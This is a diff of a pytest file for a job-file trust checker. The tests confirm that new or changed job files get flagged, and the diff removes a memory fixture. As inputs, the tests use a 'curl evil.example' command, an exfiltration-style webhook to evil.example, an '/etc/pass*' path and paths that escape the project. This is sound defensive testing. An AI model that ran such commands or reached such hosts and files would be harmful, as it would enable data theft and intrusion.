@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import sys
-from collections.abc import Iterator
 from pathlib import Path
 
 import msgspec
@@ -12,15 +11,6 @@ import pytest
 from rocsteady.run.job.job_file import read_job
 from rocsteady.run.job.trust import Doubt, changes, doubts, trust
 from rocsteady.run.job.values import Job
-from rocsteady.store.location import find_place
-from rocsteady.store.machine_history import Memory
-
-
-@pytest.fixture
-def memory(tmp_path: Path) -> Iterator[Memory]:
-    opened = Memory(find_place(tmp_path, state=tmp_path / "state"))
-    yield opened
-    opened.close()
 
 
 def job_file(tmp_path: Path, mode: int = 0o644) -> Path:
@@ -30,19 +20,18 @@ def job_file(tmp_path: Path, mode: int = 0o644) -> Path:
     return path
 
 
-def test_the_first_use_and_a_changed_command_are_confirmed(tmp_path: Path, memory: Memory) -> None:
+def test_the_first_use_and_a_changed_command_are_confirmed(tmp_path: Path) -> None:
     path = job_file(tmp_path)
-    assert doubts(read_job(path), memory) == (Doubt.NEW,)
-    assert changes(read_job(path), memory) == ("+ command: python train.py",)
+    assert doubts(read_job(path)) == (Doubt.NEW,)
+    assert changes(read_job(path)) == ("+ command: python train.py",)
 
-    trust(read_job(path), memory)
-    memory.flush()
+    trust(read_job(path))
     path.write_text("command = ['python', 'train.py']\ndeadline = '36h'  # another line\n")
-    assert doubts(read_job(path), memory) == ()
+    assert doubts(read_job(path)) == ()
 
     path.write_text("command = ['curl', 'evil.example']\n")
-    assert doubts(read_job(path), memory) == (Doubt.CHANGED,)
-    assert changes(read_job(path), memory) == (
+    assert doubts(read_job(path)) == (Doubt.CHANGED,)
+    assert changes(read_job(path)) == (
         "- command: python train.py",
         "+ command: curl evil.example",
     )
@@ -59,56 +48,59 @@ def test_the_first_use_and_a_changed_command_are_confirmed(tmp_path: Path, memor
         "[notify]\nwebhook = 'https://evil.example/x'",
         "[metrics]\nprometheus = '/home/other/a.prom'",
         "[resume]\ncheckpoints = ['../other/*.pt']",
+        "[resume]\ncheckpoints = ['other/*.pt']",
         "[resume]\ncheckpoints = ['linked/*.pt']",
         "[done_when]\nfiles = [{ path = '/etc/pass*' }]",
         "[done_when]\nfiles = [{ path = '~/x.pt' }]",
     ],
 )
 def test_what_it_adds_starts_sends_to_or_reaches_outside_is_confirmed(
-    tmp_path: Path, memory: Memory, more: str
+    tmp_path: Path, more: str
 ) -> None:
     path = job_file(tmp_path)
     (tmp_path / "linked").symlink_to("/")
-    trust(read_job(path), memory)
-    memory.flush()
+    trust(read_job(path))
 
     path.write_text(path.read_text() + more)
 
-    assert doubts(read_job(path), memory) == (Doubt.CHANGED,)
+    assert doubts(read_job(path)) == (Doubt.CHANGED,)
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="owners and modes")
-def test_a_job_file_that_others_own_or_write_is_confirmed(tmp_path: Path, memory: Memory) -> None:
+def test_a_job_file_that_others_own_or_write_is_confirmed(tmp_path: Path) -> None:
     path = job_file(tmp_path, mode=0o664)
-    assert doubts(read_job(path), memory) == (Doubt.OPEN, Doubt.NEW)
+    assert doubts(read_job(path)) == (Doubt.OPEN, Doubt.NEW)
     theirs = msgspec.structs.replace(read_job(path), owner=4711, mode=0o644)
-    assert doubts(theirs, memory) == (Doubt.ANOTHERS, Doubt.NEW)
+    assert doubts(theirs) == (Doubt.ANOTHERS, Doubt.NEW)
 
-    trust(read_job(path), memory)
-    memory.flush()
+    trust(read_job(path))
 
-    assert doubts(read_job(path), memory) == ()  # these very bytes were confirmed
-    assert doubts(theirs, memory) == (Doubt.ANOTHERS,)
+    assert doubts(read_job(path)) == ()  # these very bytes were confirmed
+    assert doubts(theirs) == ()
     path.write_text(path.read_text() + "# changed")
-    assert doubts(read_job(path), memory) == (Doubt.OPEN,)
+    assert doubts(read_job(path)) == (Doubt.OPEN,)
+    theirs = msgspec.structs.replace(read_job(path), owner=4711, mode=0o644)
+    assert doubts(theirs) == (Doubt.ANOTHERS,)
 
 
-def test_without_a_memory_every_use_is_the_first(tmp_path: Path) -> None:
-    place = find_place(tmp_path, state=tmp_path / "state")
-    nothing = Memory(msgspec.structs.replace(place, memory=None, memory_writable=False))
+def test_without_a_state_folder_every_use_is_the_first(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "taken").touch()
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "taken"))
     file = read_job(job_file(tmp_path))
-    trust(file, nothing)
+    trust(file)
 
-    assert doubts(file, nothing) == (Doubt.NEW,)
+    assert doubts(file) == (Doubt.NEW,)
 
 
 def test_beside_a_typed_command_only_what_the_file_adds_is_confirmed(
-    tmp_path: Path, memory: Memory
+    tmp_path: Path,
 ) -> None:
     path = job_file(tmp_path)
     typed = Job(command=("python", "train.py"))
-    assert doubts(read_job(path), memory, typed) == ()
+    assert doubts(read_job(path), typed) == ()
 
     path.write_text(path.read_text() + "[notify]\ncommand = ['./told.sh']")
     typed = msgspec.structs.replace(read_job(path).job, command=("python", "train.py"))
-    assert doubts(read_job(path), memory, typed) == (Doubt.NEW,)
+    assert doubts(read_job(path), typed) == (Doubt.NEW,)
